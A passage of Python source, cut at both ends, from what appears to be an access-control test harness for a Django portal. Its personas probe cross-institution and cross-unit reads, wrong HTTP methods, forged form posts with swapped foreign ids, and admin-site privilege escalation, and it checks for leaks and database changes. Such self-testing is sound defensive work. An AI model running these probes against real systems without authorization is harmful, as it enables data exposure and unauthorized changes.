    accounts = get_user_model().objects.filter(profile__isnull=False).exclude(profile__role="admin")
    for name in ("setup-unit-update", "setup-unit-move", "setup-unit-retire", "setup-unit-restore"):
        pairs[name] = (units, "institution_id", "pk")
    for name in ("setup-account-update", "setup-account-link", "setup-account-deactivate",
                 "setup-account-reactivate"):
        pairs[name] = (accounts, "profile__institution_id", "profile__unit_id")
    sources = {name: targets(name, qs, inst, unit) for name, (qs, inst, unit) in pairs.items()}
    sources["platform-update"] = targets("platform-update", m.WorkPlatform.objects, "institution_id", "owner_id",
                                         host="host_id")
    entry = ("assessment__round__institution_id", "assessment__unit_id")
    for name in ("assessment-item", "assessment-item-review"):
        sources[name] = targets(name, m.AssessmentEntry.objects, *entry, args=lambda e: (e.assessment_id, e.pk))
    sources["team-membership-end"] = targets("team-membership-end", m.TeamMembership.objects, "team__institution_id",
                                             "volunteer__unit_id", args=lambda t: (t.team_id, t.pk))
    sources["review-step"] = targets("review-step", m.ReviewStep.objects, "review__institution_id",
                                     args=lambda s: (s.review_id, s.pk))
    sources["evidence-download"] = evidence_targets
    return sources


def _path_value(obj, path: str):
    """obj.a.b_id for the path "a__b_id" (None where a link is empty)."""
    value = obj
    for part in path.split("__"):
        if value is None:
            return None
        value = getattr(value, part)
    return value


def evidence_targets() -> list[Target]:
    """An evidence file is private to the unit whose record it supports (a ledger entry, an assessment item,
    a rectification), or institution-wide (a task update, a quota value)."""
    from tracker.org.models import EvidenceFile

    found = []
    for evidence in EvidenceFile.objects.select_related(
            "update__task__stage__phase__plan", "activity__unit", "entry__assessment__round", "entry__assessment",
            "rectification").prefetch_related("quota_entries__quota").order_by("pk"):
        if evidence.update_id:
            owner = (evidence.update.task.stage.phase.plan.institution_id, None)
        elif evidence.activity_id:
            owner = (evidence.activity.unit.institution_id, evidence.activity.unit_id)
        elif evidence.entry_id:
            owner = (evidence.entry.assessment.round.institution_id, evidence.entry.assessment.unit_id)
        elif evidence.rectification_id:
            owner = (evidence.rectification.institution_id, evidence.rectification.unit_id)
        else:
            quota_entry = next(iter(evidence.quota_entries.all()), None)
            if quota_entry is None:
                continue
            owner = (quota_entry.quota.institution_id, None)
        found.append(Target("evidence-download", (evidence.pk,), *owner))
    return found


def spread(items: list, k: int) -> list:
    """k items spread over the list (first, last and between), in order."""
    if len(items) <= k:
        return list(items)
    if k == 1:
        return [items[0]]
    return [items[round(i * (len(items) - 1) / (k - 1))] for i in range(k)]


class Catalog:
    """Every object every URL names, with its owner; the samples each persona attacks."""

    def __init__(self, k: int) -> None:
        self.k = k
        self.refresh()

    def refresh(self) -> None:
        sources = object_sources()
        check_url_coverage(sources)
        self.targets = {name: source() for name, source in sources.items()}

    def other_institution(self, persona: Persona, name: str) -> list[Target]:
        return spread([t for t in self.targets[name] if t.institution != persona.institution], self.k)

    def other_unit(self, persona: Persona, name: str) -> list[Target]:
        """Objects of the persona's institution private to another unit (none for other roles)."""
        if persona.role not in ("secretary", "liaison"):
            return []
        return spread([t for t in self.targets[name] if t.institution == persona.institution
                       and t.unit not in (None, persona.unit) and t.host != persona.unit], self.k)

    def own(self, persona: Persona, name: str) -> list[Target]:
        return spread([t for t in self.targets[name] if t.institution == persona.institution], self.k)


def check_url_coverage(sources: dict) -> None:
    named = {pattern.name for pattern in tracker_patterns() if pattern.pattern.converters}
    missing = named - set(sources)
    if missing:
        raise SystemExit("attack: URL patterns with no objects to attack (add them to object_sources): "
                         + ", ".join(sorted(missing)))


def plain_paths() -> list[tuple[str, str]]:
    """(URL name, path) of every page that names no object: the portal's and the account pages."""
    from django.urls import get_resolver, reverse

    found = [(p.name, reverse(f"tracker:{p.name}")) for p in tracker_patterns() if not p.pattern.converters]
    for pattern in get_resolver().url_patterns:
        name = getattr(pattern, "name", None)
        if name and not pattern.pattern.converters and name not in ("login", "logout", "cas_login"):
            found.append((name, reverse(name)))
    return found


# --- The admin site's models and objects ----------------------------------------------------------------------


@dataclass(frozen=True)
class AdminObject:
    label: str  # app_label.model_name
    info: str  # "admin:tracker_task"
    pk: int
    institution: int | None
    history_id: int | None

    def urls(self) -> dict[str, str]:
        from django.urls import reverse

        urls = {kind: reverse(f"{self.info}_{kind}", args=[self.pk]) for kind in ("change", "delete", "history")}
        if self.history_id is not None:
            urls["version"] = reverse(f"{self.info}_simple_history", args=[self.pk, self.history_id])
        return urls


def admin_owner_path(model) -> str | None:
    """The path from an admin model to its institution (the admin's own `institution_path`; accounts and devices
    through their profile)."""
    from django.contrib import admin
    from django.contrib.auth import get_user_model

    if model is get_user_model():
        return "profile__institution"
    if model._meta.label == "otp_totp.TOTPDevice":
        return "user__profile__institution"
    path = getattr(admin.site._registry[model], "institution_path", None)
    return None if path is None else ("pk" if path == "pk" else path)


def admin_models() -> list:
    from django.contrib import admin

    return sorted(admin.site._registry, key=lambda model: model._meta.label)


def admin_info(model) -> str:
    return f"admin:{model._meta.app_label}_{model._meta.model_name}"


def admin_owners() -> dict[tuple[str, str], dict[int, int | None]]:
    """(app_label, model_name) → pk → institution, for every admin model that belongs to one."""
    owners = {}
    for model in admin_models():
        path = admin_owner_path(model)
        if path is None:
            continue
        key = "pk" if path == "pk" else f"{path}__pk"
        rows = model._default_manager.values_list("pk", key)
        owners[(model._meta.app_label, model._meta.model_name)] = dict(rows)
    return owners


def admin_objects(k: int, *, make_history: bool = False) -> dict[str, list[AdminObject]]:
    """k objects of each institution for every admin model; a model that keeps history gets a version of each
    (the seed plans come from fixtures, which write none: one save writes it, before the server starts)."""
    from django.contrib import admin

    from tracker.admin import HistoryScopedAdmin

    found: dict[str, list[AdminObject]] = {}
    for model in admin_models():
        path = admin_owner_path(model)
        if path is None:
            found[model._meta.label] = []
            continue
        key = "pk" if path == "pk" else f"{path}__pk"
        rows = list(model._default_manager.order_by("pk").values_list("pk", key))
        chosen = []
        for institution in sorted({i for _pk, i in rows if i is not None}):
            chosen += spread([(pk, i) for pk, i in rows if i == institution], k)
        keeps = hasattr(model, "history") and isinstance(admin.site._registry[model], HistoryScopedAdmin)
        objects = []
        for pk, institution in chosen:
            history_id = None
            if keeps:
                history_id = model.history.filter(id=pk).order_by("history_id").values_list(
                    "history_id", flat=True).first()
                if history_id is None and make_history:
                    model._default_manager.get(pk=pk).save()
                    history_id = model.history.filter(id=pk).values_list("history_id", flat=True).first()
            objects.append(AdminObject(model._meta.label, admin_info(model), pk, institution, history_id))
        found[model._meta.label] = objects
    return found


ADMIN_LINK = re.compile(r'href="/admin/(\w+)/(\w+)/(\d+)/change/')


def admin_link_leaks(persona: Persona, html: str, owners: dict) -> list[str]:
    """Change links in an admin page to records of another institution."""
    leaks = set()
    for app, model, pk in ADMIN_LINK.findall(html):
        institution = owners.get((app, model), {}).get(int(pk))
        if institution is not None and persona.role != "admin" and institution != persona.institution:
            leaks.add(f"/admin/{app}/{model}/{pk}/")
    return sorted(leaks)


# --- Running many requests ------------------------------------------------------------------------------------


@dataclass
class Ask:
    persona: Persona
    method: str
    path: str
    expect: str  # "deny": anything but 200; "scan": 200 allowed, no marker the persona may not see
    category: str
    what: str = ""


class Attack:
    """The running portal, the personas' browsers, and what the judge needs (markers, admin owners)."""

    def __init__(self, base: str, personas: list[Persona], password: str, db_path: Path, k: int) -> None:
        self.base = base
        self.personas = personas
        self.password = password
        self.k = k
        self.browsers = {p.username: Browser(base, p) for p in personas}
        self.by_name = {p.username: p for p in personas}
        self.fingerprint = Fingerprint(db_path)
        self.scanner = Scanner()
        self.admin_owners = admin_owners()
        self.catalog: Catalog | None = None
        self.post_only: set[str] = set()  # URL names whose GET answered 405
        self.allow: dict[str, str] = {}  # URL name → the Allow header of a 405
        self.last_print: dict = {}  # the fingerprint after the last forged write

    def browser(self, username: str) -> Browser:
        return self.browsers[username]

    def persona(self, username: str) -> Persona:
        return self.by_name[username]

    @property
    def attackers(self) -> list[Persona]:
        return [p for p in self.personas if p.role != "admin"]

    def judge(self, ask: Ask, response: requests.Response) -> None:
        status = response.status_code
        RESULTS.count(ask.category, "requests")
        RESULTS.count(ask.category, f"{status // 100}xx")
        RESULTS.count(ask.category, f"status {status}")
        where = dict(category=ask.category, persona=ask.persona.label, method=ask.method, url=ask.path,
                     status=status, response=describe(response))
        if status >= 500:
            RESULTS.fail(Finding(what="server error " + ask.what, **where))
            return
        if status != 200:
            return
        if ask.expect == "deny":
            RESULTS.count(ask.category, "leaks")
            RESULTS.fail(Finding(what="answered 200 where 404/403/302 is expected " + ask.what, **where))
            return
        text = body_text(response)
        leaks = self.scanner.leaks(ask.persona, text)
        if ask.path.startswith("/admin/"):
            leaks += admin_link_leaks(ask.persona, text, self.admin_owners)
        if leaks:
            RESULTS.count(ask.category, "leaks")
            where["response"] = "… " + context_of(text, leaks[0].split("/")[-2] if "/" in leaks[0] else leaks[0])
            RESULTS.fail(Finding(what="shows what the persona may not see: " + ", ".join(leaks[:12])
                                 + (f" and {len(leaks) - 12} more" if len(leaks) > 12 else "") + " " + ask.what,
                                 **where))

    def run(self, asks: list[Ask]) -> None:
        def one(ask: Ask) -> None:
            try:
                response = self.browser(ask.persona.username).request(ask.method, ask.path, category=ask.category)
            except requests.RequestException as error:
                RESULTS.fail(Finding(ask.category, ask.persona.label, ask.method, ask.path,
                                     f"no answer: {error}"))
                return
            self.judge(ask, response)

        with ThreadPoolExecutor(CLIENT_THREADS) as pool:
            list(pool.map(one, asks))


# --- 3. Reads -------------------------------------------------------------------------------------------------

READS_X = "reads: cross-institution"
READS_C = "reads: cross-college"
READS_OWN = "reads: own scope, markers"
READS_PLAIN = "reads: pages without ids"
READS_ADMIN = "reads: admin site"
CALIBRATION = "calibration"


def foreign_queries(attack: Attack, persona: Persona) -> list[str]:
    """Query strings naming the other side's records, for pages that filter (?institution=, ?unit= …)."""
    from tracker import models as m

    def first(queryset) -> str:
        pk = queryset.order_by("pk").values_list("pk", flat=True).first()
        return str(pk) if pk is not None else ""

    other = m.Institution.objects.exclude(pk=persona.institution).order_by("pk").first()
    queries = []
    if other is not None:
        ids = {
            "institution": str(other.pk),
            "unit": first(m.OrgUnit.objects.filter(institution=other, kind=m.OrgUnit.Kind.COLLEGE)),
            "platform": first(m.WorkPlatform.objects.filter(institution=other)),
            "volunteer": first(m.Volunteer.objects.filter(institution=other)),
            "team": first(m.Team.objects.filter(institution=other)),
            "plan": first(m.Plan.objects.filter(institution=other)),
            "round": first(m.AssessmentRound.objects.filter(institution=other)),
            "standard": first(m.Standard.objects.filter(institution=other)),
        }
        ids["college"] = ids["owner"] = ids["unit"]
        queries.append(urlencode({k: v for k, v in ids.items() if v}))
    if persona.role in ("secretary", "liaison"):
        unit = first(m.OrgUnit.objects.filter(institution_id=persona.institution, kind=m.OrgUnit.Kind.COLLEGE)
                     .exclude(pk=persona.unit))
        volunteer = first(m.Volunteer.objects.filter(institution_id=persona.institution).exclude(unit=persona.unit))
        queries.append(urlencode({"unit": unit, "college": unit, "owner": unit, "volunteer": volunteer}))
    return queries


def phase_calibrate(attack: Attack) -> None:
    """The administrator, who sees everything, asks for every object page the attack will use: each must answer
    (200, or 405 for a page that only takes POST), or the attack on it would prove nothing."""
    admin = attack.persona("admin")
    paths = sorted({(t.name, t.path) for name, targets in attack.catalog.targets.items()
                    for institution in {t.institution for t in targets}
                    for t in spread([t for t in targets if t.institution == institution], attack.k)})
    browser = attack.browser("admin")
    statuses: dict[str, Counter] = defaultdict(Counter)

    def one(item: tuple[str, str]) -> None:
        name, path = item
        response = browser.get(path, category=CALIBRATION)
        RESULTS.count(CALIBRATION, "requests")
        RESULTS.count(CALIBRATION, f"{response.status_code // 100}xx")
        RESULTS.count(CALIBRATION, f"status {response.status_code}")
        statuses[name][response.status_code] += 1
        if response.status_code == 405:
            attack.post_only.add(name)
            attack.allow[name] = response.headers.get("Allow", "")
        elif response.status_code >= 500:
            RESULTS.fail(Finding(CALIBRATION, admin.label, "GET", path, "server error", response.status_code,
                                 response=describe(response)))
        elif response.status_code != 200:
            RESULTS.count(CALIBRATION, "not 200")
            RESULTS.note(CALIBRATION, f"{path} answered the administrator {response.status_code}")

    with ThreadPoolExecutor(CLIENT_THREADS) as pool:
        list(pool.map(one, paths))
    RESULTS.count(CALIBRATION, "URL names", len(statuses))
    # Which pages take POST: a PUT is answered 405 with the methods allowed.
    for name, path in plain_paths() + [(n, t[0].path) for n, t in attack.catalog.targets.items() if t]:
        response = browser.request("PUT", path, data={"csrfmiddlewaretoken": browser.csrf}, category=CALIBRATION)
        RESULTS.count(CALIBRATION, "requests")
        RESULTS.count(CALIBRATION, f"{response.status_code // 100}xx")
        if response.status_code == 405:
            attack.allow[name] = response.headers.get("Allow", "")
    # The judge itself: another institution's volunteer page, as the administrator sees it, must count as a leak
    # for each institution's staff (a scanner that finds nothing would pass everything).
    for persona in (attack.persona("staff"), attack.persona("suda_staff")):
        target = attack.catalog.other_institution(persona, "volunteer-detail")[0]
        text = browser.get(target.path).text
        found = attack.scanner.leaks(persona, text)
        RESULTS.count(CALIBRATION, "scanner self-tests")
        if not any(marker.startswith("139") for marker in found) or not any("〔V" in m for m in found):
            RESULTS.fail(Finding(CALIBRATION, persona.label, "GET", target.path,
                                 f"the marker scanner missed the other side's phone and name (found {found})"))


def phase_reads(attack: Attack) -> None:
    catalog = attack.catalog
    asks: list[Ask] = []
    for persona in attack.attackers:
        for name in sorted(catalog.targets):
            asks += [Ask(persona, "GET", t.path, "deny", READS_X) for t in catalog.other_institution(persona, name)]
            asks += [Ask(persona, "GET", t.path, "deny", READS_C) for t in catalog.other_unit(persona, name)]
            bound = persona.role in ("secretary", "liaison")
            mine = [t for t in catalog.targets[name] if t.institution == persona.institution
                    and (not bound or t.unit in (None, persona.unit))]
            asks += [Ask(persona, "GET", t.path, "scan", READS_OWN) for t in spread(mine, catalog.k)]
        for _name, path in plain_paths():
            asks.append(Ask(persona, "GET", path, "scan", READS_PLAIN))
            for query in foreign_queries(attack, persona):
                asks.append(Ask(persona, "GET", f"{path}?{query}", "scan", READS_PLAIN))
    with timed("reads"):
        attack.run(asks)


def phase_admin_reads(attack: Attack, objects: dict[str, list[AdminObject]]) -> None:
    from django.urls import NoReverseMatch, reverse

    from tracker import models as m

    asks: list[Ask] = []
    for persona in attack.attackers:
        site_user = persona.role == "staff"
        other = m.Institution.objects.exclude(pk=persona.institution).order_by("pk").first()
        asks.append(Ask(persona, "GET", "/admin/", "scan" if site_user else "deny", READS_ADMIN))
        for index, model in enumerate(admin_models()):
            info = admin_info(model)
            changelist = reverse(f"{info}_changelist")
            pages = [changelist, f"{changelist}?q={other.short_name or other.name[:4]}"]
            path = admin_owner_path(model)
            if path and path != "pk" and path.count("__") == 0:
                pages.append(f"{changelist}?{path}__id__exact={other.pk}")
            with contextlib.suppress(NoReverseMatch):
                pages.append(reverse(f"{info}_add"))
            expect = "scan" if site_user else "deny"
            asks += [Ask(persona, "GET", page, expect, READS_ADMIN) for page in (pages if site_user else pages[:1])]
            theirs = [o for o in objects[model._meta.label] if o.institution != persona.institution]
            mine = [o for o in objects[model._meta.label] if o.institution == persona.institution]
            # Below committee staff the whole admin site is closed: one object of every fourth model stands for all.
            sampled = theirs if site_user else theirs[:1] if index % 4 == 0 else []
            for obj in sampled:
                asks += [Ask(persona, "GET", url, "deny", READS_ADMIN, f"({kind})") for kind, url in obj.urls().items()]
            if site_user:
                for obj in mine:
                    asks += [Ask(persona, "GET", url, "scan", READS_ADMIN, f"(own {kind})")
                             for kind, url in obj.urls().items()]
    with timed("reads"):
        attack.run(asks)


# --- 4. Wrong methods -------------------------------------------------------------------------------------------

METHODS = "wrong methods"


def phase_wrong_methods(attack: Attack, objects: dict[str, list[AdminObject]]) -> None:
    """PUT and DELETE on every URL, GET on the ones that take only POST, each with a valid CSRF token (so the
    method is what is refused): 405, never a 5xx, and nothing changes. Each persona's own objects are used, so the
    method is the only thing in the way. The Allow headers say which pages take POST (the forged writes use them)."""
    from django.urls import reverse

    catalog = attack.catalog
    before = attack.fingerprint.take()
    asks: list[tuple[Persona, str, str, str]] = []
    for username in ("staff", "suda_staff", "secretary", "suda_secretary", "leader", "suda_liaison"):
        persona = attack.persona(username)
        for name in sorted(catalog.targets):
            for target in spread([t for t in catalog.targets[name] if t.institution == persona.institution
                                  and t.unit in (None, persona.unit)] or catalog.own(persona, name), 1):
                asks += [(persona, method, target.path, name) for method in ("PUT", "DELETE")]
                if name in attack.post_only:
                    asks.append((persona, "GET", target.path, name))
        for name, path in plain_paths():
            asks += [(persona, method, path, name) for method in ("PUT", "DELETE")]
    staff = attack.persona("staff")
    for model in admin_models():
        info = admin_info(model)
        urls = [reverse(f"{info}_changelist")]
        mine = [o for o in objects[model._meta.label] if o.institution == staff.institution][:1]
        for obj in mine:
            urls += list(obj.urls().values())
        asks += [(staff, method, url, info) for url in urls for method in ("PUT", "DELETE")]

    def one(item: tuple[Persona, str, str, str]) -> None:
        persona, method, path, name = item
        browser = attack.browser(persona.username)
        data = {"csrfmiddlewaretoken": browser.csrf} if method != "GET" else None
        response = browser.request(method, path, data=data, category=METHODS)
        RESULTS.count(METHODS, "requests")
        RESULTS.count(METHODS, f"{response.status_code // 100}xx")
        RESULTS.count(METHODS, f"status {response.status_code}")
        if response.status_code == 405 and "POST" in response.headers.get("Allow", ""):
            with RESULTS.lock:
                attack.allow[name] = response.headers["Allow"]
        if response.status_code >= 500:
            RESULTS.fail(Finding(METHODS, persona.label, method, path, "server error", response.status_code,
                                 response=describe(response)))

    with timed(METHODS), ThreadPoolExecutor(CLIENT_THREADS) as pool:
        list(pool.map(one, asks))
    changed = Fingerprint.changes(before, attack.fingerprint.take())
    if changed:
        RESULTS.count(METHODS, "changes")
        RESULTS.fail(Finding(METHODS, "several", "PUT/DELETE/GET", "(every URL)",
                             "the database changed: " + ", ".join(changed)))


# --- 5. Forged writes ---------------------------------------------------------------------------------------------

WRITES_X = "writes: cross-institution"
WRITES_C = "writes: cross-college"
WRITES_SWAP = "writes: other side's ids in own forms"
WRITES_ADMIN = "writes: admin site"

# The page whose form posts to a URL that takes only POST (its arguments: the first ones of the URL's).
FORM_PAGES = {
    "task-update-create": "task-detail", "quota-entry-create": "quota-detail", "team-membership-add": "team-detail",
    "team-membership-end": "team-detail", "round-remind": "round-board", "assessment-start": "round-board",
    "assessment-report": "assessment-detail", "assessment-transition": "assessment-detail",
    "assessment-item-review": "assessment-item", "rectification-advance": "rectification-detail",
    "rectification-reassign": "rectification-detail", "review-step": "review-detail",
    "review-opinion-create": "review-detail", "match-advance": "match-detail", "match-create": "menu-board",
}
# Form fields that name a record, and the model (a form's names follow the models' fields).
FIELD_MODELS = {
    "unit": "tracker.OrgUnit", "owner": "tracker.OrgUnit", "host": "tracker.OrgUnit", "parent": "tracker.OrgUnit",
    "volunteer": "tracker.Volunteer", "volunteer_leader": "tracker.Volunteer", "volunteers": "tracker.Volunteer",
    "retirees": "tracker.Volunteer", "platform": "tracker.WorkPlatform", "institution": "tracker.Institution",
    "resource": "tracker.ResourceItem", "need": "tracker.NeedItem", "standard": "tracker.Standard",
    "assessment_round": "tracker.AssessmentRound", "round": "tracker.AssessmentRound", "team": "tracker.Team",
    "tags": "tracker.Speciality", "specialities": "tracker.Speciality", "plan": "tracker.Plan",
    "quota": "tracker.Quota", "task": "tracker.Task", "phase": "tracker.Phase", "stage": "tracker.Stage",
    "user": "auth.User", "item": "tracker.StandardItem", "group": "tracker.StandardGroup",
}
# Records a secretary or liaison keeps only for her own unit: the path to that unit.
UNIT_PATHS = {
    "tracker.Volunteer": "unit", "tracker.Activity": "unit", "tracker.NeedItem": "unit",
    "tracker.ResourceItem": "volunteer__unit", "tracker.Rectification": "unit", "tracker.Assessment": "unit",
    "tracker.AssessmentEntry": "assessment__unit", "tracker.RosterImport": "unit",
    "tracker.TeamMembership": "volunteer__unit", "tracker.MenuMatch": "need__unit",
}
NOT_ATTACKED = {"logout", "otp_remove", "password_change", "set_language", "login", "cas_login",
                "standard-import-confirm", "roster-import", "standard-import", "otp_setup", "otp_verify"}


def owner_path(label: str) -> str | None:
    from django.apps import apps

    model = apps.get_model(label)
    if label in ("tracker.Institution",):
        return "pk"
    if label == "tracker.ReportSnapshot":
        return "institution"
    try:
        return admin_owner_path(model)
    except KeyError:
        return None


def record_owners(label: str, pks: Iterable[int]) -> dict[int, Owner]:
    """(institution, unit) of each record (the unit only for records kept per unit)."""
    from django.apps import apps

    model = apps.get_model(label)
    path = owner_path(label)
    if path is None:
        return {}
    institution = "pk" if path == "pk" else f"{path}__pk"
    unit = UNIT_PATHS.get(label)
    fields = ["pk", institution] + ([f"{unit}__pk"] if unit else [])
    return {row[0]: (row[1], row[2] if unit else None)
            for row in model._default_manager.filter(pk__in=list(pks)).values_list(*fields)}


def is_foreign(persona: Persona, label: str, owner: Owner) -> bool:
    institution, unit = owner
    if institution is None or persona.role == "admin":
        return False
    if institution != persona.institution:
        return True
    return persona.role in ("secretary", "liaison") and label in UNIT_PATHS and unit != persona.unit


def foreign_ids(persona: Persona, label: str, offered: set[str], limit: int = 2) -> list[str]:
    """Ids of records of that model the persona may not use (the other side's), none of them offered to her."""
    from django.apps import apps

    model = apps.get_model(label)
    pks = list(model._default_manager.order_by("pk").values_list("pk", flat=True))
    owners = record_owners(label, pks)
    foreign = [str(pk) for pk in pks if pk in owners and is_foreign(persona, label, owners[pk])
               and str(pk) not in offered]
    return spread(foreign, limit)


@dataclass
class Forgery:
    persona: Persona
    path: str
    data: list[tuple[str, str]]
    uploads: list = field(default_factory=list)
    category: str = WRITES_X
    what: str = ""
    denied: bool = True  # the persona may not even see the object: only 403/404/405 (or a redirect) will do
    expect_status: int | None = None  # the one answer allowed (a history version posted back: 403)


def new_row_findings(attack: Attack, persona: Persona, before: dict, after: dict) -> tuple[list[str], list[str]]:
    """What changed between two fingerprints: (holes, own-scope records). A changed row, a deleted row or a new
    row that is the other side's (or points to the other side's record) is a hole; a new record of the persona's
    own scope only means the form ignored the foreign id and used her own."""
    from django.apps import apps

    tables = {model._meta.db_table: model for model in apps.get_models(include_auto_created=True)}
    holes, own = [], []
    for table in before:
        if before[table] == after.get(table):
            continue
        count, largest, _hash = before[table]
        new_count, new_largest, _new = after[table]
        model = tables.get(table)
        if model is None or new_count - count != new_largest - largest or new_count <= count:
            holes.append(f"{table}: rows changed or removed ({count} → {new_count})")
            continue
        label = model._meta.label
        rows = list(model._default_manager.filter(pk__gt=largest).values())
        foreign = []
        for row in rows:
            links = [(label, row["id"])] if owner_path(label) else []
            for fk in model._meta.concrete_fields:
                if fk.is_relation and row.get(fk.attname) is not None:
                    links.append((fk.related_model._meta.label, row[fk.attname]))
            for link_label, pk in links:
                owner = record_owners(link_label, [pk]).get(pk)
                if owner is not None and is_foreign(persona, link_label, owner):
                    foreign.append(f"{link_label} {pk}")
        if foreign:
            holes.append(f"{table}: {len(rows)} new row(s) naming the other side's " + ", ".join(foreign[:5]))
        else:
            own.append(f"{table}: {len(rows)} new row(s) of {persona.username}'s own scope")
    return holes, own


def forge(attack: Attack, forgery: Forgery) -> None:
    """Post the forgery and compare the database before and after."""
    persona = forgery.persona
    browser = attack.browser(persona.username)
    before = attack.last_print
    try:
        response = browser.post(forgery.path, forgery.data, files=forgery.uploads or None,
                                category=forgery.category)
    except requests.RequestException as error:
        RESULTS.fail(Finding(forgery.category, persona.label, "POST", forgery.path, f"no answer: {error}"))
        return
    after = attack.fingerprint.take()
    attack.last_print = after
    status = response.status_code
    RESULTS.count(forgery.category, "requests")
    RESULTS.count(forgery.category, f"{status // 100}xx")
    RESULTS.count(forgery.category, f"status {status}")
    where = dict(category=forgery.category, persona=persona.label, method="POST", url=forgery.path, status=status,
                 request=show_data(forgery.data, forgery.uploads), response=describe(response))
    if status >= 500:
        RESULTS.fail(Finding(what="server error " + forgery.what, **where))
    elif forgery.denied and status == 200:
        RESULTS.fail(Finding(what="answered 200 to a write on the other side's record " + forgery.what, **where))
    elif forgery.expect_status is not None and status != forgery.expect_status:
        RESULTS.fail(Finding(what=f"answered {status}, not {forgery.expect_status} " + forgery.what, **where))
    if before != after:
        holes, own = new_row_findings(attack, persona, before, after)
        if holes:
            RESULTS.count(forgery.category, "changes")
            RESULTS.fail(Finding(what="the database changed: " + "; ".join(holes) + " " + forgery.what, **where))
        for text in own:
            RESULTS.count(forgery.category, "own-scope records")
            RESULTS.note(forgery.category, f"{persona.username} POST {forgery.path}: {text} (foreign id ignored)")


def page_forms(browser: Browser, page: str, action: str) -> tuple[int, list[Form]]:
    response = browser.get(page)
    if response.status_code != 200:
        return response.status_code, []
    return 200, [f for f in forms_of(response.text, page) if f.method == "post" and f.action == action]


def page_for(name: str, args: tuple) -> str:
    from django.urls import reverse

    page = FORM_PAGES.get(name, name)
    pattern = next(p for p in tracker_patterns() if p.name == page)
    return reverse(f"tracker:{page}", args=args[:len(pattern.pattern.converters)])


def takes_post(attack: Attack, name: str) -> bool:
    return name in attack.post_only or "POST" in attack.allow.get(name, "")


def harvested(attack: Attack, name: str, target: Target) -> list[tuple[list, list, str]]:
    """The administrator's form(s) for that URL on that object, as he would post them: (data, uploads, label).
    A page that shows him no such form gives one post of nothing but the CSRF token."""
    _status, forms = page_forms(attack.browser("admin"), page_for(name, target.args), target.path)
    posts = []
    for form in forms:
        for submit in variants(form):
            data, uploads = form_data(form, submit)
            posts.append((data, uploads, f"[{submit.value}]" if submit is not None else ""))
    RESULTS.count(WRITES_X, "forms harvested" if posts else "URLs without a form to harvest")
    return posts or [([], [], "(no form shown to the administrator)")]


def names_record(control: Control) -> bool:
    """A control whose value is a record's id: a choice, a tick box, a hidden id (a text field is text)."""
    return control.tag == "select" or (control.tag == "input" and control.type in ("checkbox", "hidden", "radio"))


def swaps(persona: Persona, form: Form) -> Iterator[tuple[list, list, str]]:
    """The persona's own form, filled, with one field at a time set to a record of the other side she is not
    offered: a drop-down's value, a tick in a list of boxes, a hidden id."""
    base, uploads = form_data(form, (form.submits() or [None])[0])
    names = []
    for control in form.controls:
        label = FIELD_MODELS.get(control.name)
        if label is None or control.name in names or control.disabled:
            continue
        if names_record(control):
            names.append(control.name)
    for name in names:
        controls = [c for c in form.controls if c.name == name]
        offered = {value for c in controls for value, _sel in c.options} | {c.value for c in controls}
        for foreign in foreign_ids(persona, FIELD_MODELS[name], offered, limit=1):
            yield with_value(base, name, [foreign]), uploads, f"({name}={foreign}, the other side's)"


def other_institution_pk(persona: Persona) -> int:
    from tracker.org.models import Institution

    return Institution.objects.exclude(pk=persona.institution).order_by("pk").values_list("pk", flat=True)[0]


def phase_writes(attack: Attack) -> None:
    catalog = attack.catalog
    attack.last_print = attack.fingerprint.take()
    started = attack.last_print
    forgeries: list[Forgery] = []
    object_names = [name for name in sorted(catalog.targets) if takes_post(attack, name) and name not in NOT_ATTACKED]
    # (a) the other institution's records, and (b) another college's, with the administrator's own form data
    for name in object_names:
        for target in spread(catalog.targets[name], 2 * catalog.k):
            posts = None
            for persona in attack.attackers:
                if target.institution != persona.institution:
                    category = WRITES_X
                elif (persona.role in ("secretary", "liaison") and target.unit not in (None, persona.unit)
                      and target.host != persona.unit):
                    category = WRITES_C
                else:
                    continue
                posts = posts if posts is not None else harvested(attack, name, target)
                forgeries += [Forgery(persona, target.path, data, uploads, category, label)
                              for data, uploads, label in posts]
    # (c) the persona's own forms (new records and her own records' edit forms), the other side's ids put in
    for persona in attack.attackers:
        browser = attack.browser(persona.username)
        pages = [(name, path, path) for name, path in plain_paths() if takes_post(attack, name)
                 and name not in NOT_ATTACKED]
        pages += [("match-create", page_for("match-create", ()), "/menus/matches/new/")]
        for name in object_names:
            for target in spread([t for t in catalog.targets[name] if t.institution == persona.institution
                                  and t.unit in (None, persona.unit)], 1):
                pages.append((name, page_for(name, target.args), target.path))
        for name, page, action in pages:
            status, forms = page_forms(browser, page, action)
            if status == 403 and not forms:
                # Not hers to use at all: the administrator's form, posted as she is.
                _s, admin_forms = page_forms(attack.browser("admin"), page, action)
                for form in admin_forms[:1]:
                    data, uploads = form_data(form, (form.submits() or [None])[0])
                    forgeries.append(Forgery(persona, action, data, uploads, WRITES_SWAP, "(a form she is not given)"))
                continue
            for form in forms[:2]:
                for data, uploads, label in swaps(persona, form):
                    forgeries.append(Forgery(persona, action, data, uploads, WRITES_SWAP, label, denied=False))
                if name == "snapshot-list":
                    data, uploads = form_data(form, None)
                    other = other_institution_pk(persona)
                    forgeries.append(Forgery(persona, f"{action}?institution={other}", data, uploads, WRITES_SWAP,
                                             "(?institution= the other one)"))
    RESULTS.note(WRITES_X, f"{len(object_names)} URLs that take POST and name an object: " + ", ".join(object_names))
    with timed("writes"):
        for forgery in forgeries:
            forge(attack, forgery)
    changed = Fingerprint.changes(started, attack.fingerprint.take())
    RESULTS.note(WRITES_X, "tables changed over all forged writes: " + (", ".join(changed) or "none"))


def phase_admin_writes(attack: Attack, objects: dict[str, list[AdminObject]]) -> None:
    """The admin site: change, delete and history-version posts on the other institution's records with the
    administrator's own form data; the persona's own add forms with the other side's ids; a history version posted
    back by anyone (403); and staff making themselves administrators through their own profile's history form."""
    from django.contrib.auth import get_user_model
    from django.urls import NoReverseMatch, reverse

    from tracker.org.models import Profile

    admin_browser = attack.browser("admin")
    forgeries: list[Forgery] = []
    site_users = [p for p in attack.attackers if p.role == "staff"]
    others = [p for p in attack.attackers if p.role in ("secretary", "leader")]
    for model in admin_models():
        for obj in objects[model._meta.label]:
            urls = obj.urls()
            attackers = [p for p in site_users if p.institution != obj.institution]
            attackers += [p for p in others if p.institution != obj.institution][:1]
            for kind, url in urls.items():
                if kind == "history":
                    continue
                forms = []
                response = admin_browser.get(url)
                if response.status_code == 200:
                    forms = [f for f in forms_of(response.text, url) if f.method == "post" and f.action == url]
